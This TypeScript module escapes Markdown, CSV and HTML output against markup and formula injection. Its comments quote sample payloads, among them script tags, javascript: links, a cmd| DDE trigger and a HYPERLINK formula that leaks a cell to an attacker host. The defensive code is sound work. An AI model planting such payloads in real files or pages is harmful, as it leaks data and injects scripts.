/**
 * Text from the agreement, the session or a CRM export, made safe for the
 * files Accord writes for other programs to read. Every field is plain text to
 * Accord: nothing anyone types or any export carries may become markup in the
 * Markdown or a formula in the rules sheet. One home for each rule; the
 * Markdown renderer and the rules sheet call these, nothing else escapes.
 */

/*
 * Markdown. Every character that can open markup in CommonMark or GFM is
 * escaped (CommonMark lets any ASCII punctuation be backslash-escaped, and an
 * escaped character is always literal text):
 * - `<` becomes the entity `&lt;`, not `\<`: raw HTML (`<script>`,
 *   `<img onerror>`) and autolinks (`<javascript:…>`). A renderer that links
 *   bare web addresses (markdown-it's linkify, GFM autolink literals) takes a
 *   backslash after `http://…/` into the link and leaves the `<` raw, so
 *   `http://x/\<script>` would be a script there; an entity is text in every
 *   renderer, inside a link or not (the test renders both ways);
 * - `&` becomes `&amp;`: entities (`&lt;script&gt;` stays those characters, `&#106;avascript:` too);
 * - `[` `]`: links and images (`[a](javascript:…)`, `![x](http://…)`), reference definitions;
 * - `\`: so a typed backslash cannot cancel the escape that follows it;
 * - `` ` `` `*` `_` `~`: code spans, emphasis, GFM strikethrough;
 * - `|`: GFM table cells; `#`: ATX headings.
 * Line starts (`-`, `+`, `=`, `>`, `1.`, `1)`) are escaped too, because a field can
 * open a line (a paragraph, a list item's value). Line breaks become spaces:
 * a field is one line, so it can never start a block of its own.
 * `>` elsewhere, `!` `(` `)` are left alone: without `[` they cannot make an image or a link,
 * and the Markdown stays readable as plain text (`>` only quotes at a line start).
 */
const markdownSpecial = /[\\`*_[\]<&|~#]/g;
const markdownLineStart = /^\s*([-+=>]|\d{1,9}[.)])/;

/**
 * One field as literal Markdown text: rendered by any CommonMark renderer it
 * shows exactly the characters typed, never HTML, an image, a link or a heading.
 */
export function markdownText(text: string): string {
  const oneLine = text.replace(/\r\n|\r|\n/g, ' ');
  const escaped = oneLine.replace(markdownSpecial, (character) => (character === '<' ? '&lt;' : character === '&' ? '&amp;' : `\\${character}`));
  // Leading space is dropped: four spaces would open a code block.
  return escaped.replace(markdownLineStart, (_match, start: string) => start.replace(/[-+=>.)]$/, (last) => `\\${last}`)).replace(/^\s+/, '');
}

/*
 * Spreadsheets (OWASP "CSV injection"): a cell that starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is read as a formula by Excel,
 * LibreOffice and Google Sheets (`=HYPERLINK("http://attacker…?leak="&A1)`,
 * `@SUM(…)`, `-2+3+cmd|…`). Such a cell gets a leading single quote, which
 * spreadsheet programs take as "this is text", and the cell is quoted.
 * Leading spaces do not hide a trigger (` =1+1`), and the full-width forms
 * (`＝＋－＠`) are treated the same, as some spreadsheet locales read them.
 * A cell that is only a number (`-50`, `-2.5`) is kept as it is: it cannot
 * compute anything, and a disqualifier's negative points must stay a number
 * the reader can sum (OWASP notes this trade-off; see docs/security.md).
 */
const formulaStart = /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/;
const plainNumber = /^-?\d+(\.\d+)?$/;

/** Whether a spreadsheet would read this cell as a formula (a plain negative number is data, not a formula). */
export function isFormulaCell(value: string): boolean {
  return formulaStart.test(value) && !plainNumber.test(value);
}

/**
 * One CSV cell (RFC 4180 quoting) that no spreadsheet reads as a formula:
 * neutralised with a leading `'` and quoted when it would be one.
 */
export function csvCell(value: string): string {
  if (isFormulaCell(value)) return `"'${value.replace(/"/g, '""')}"`;
  return /[",\n\r;\t]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

/** Text for HTML (the print view, the SVG charts): the five characters that can open markup become entities. */
export function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}
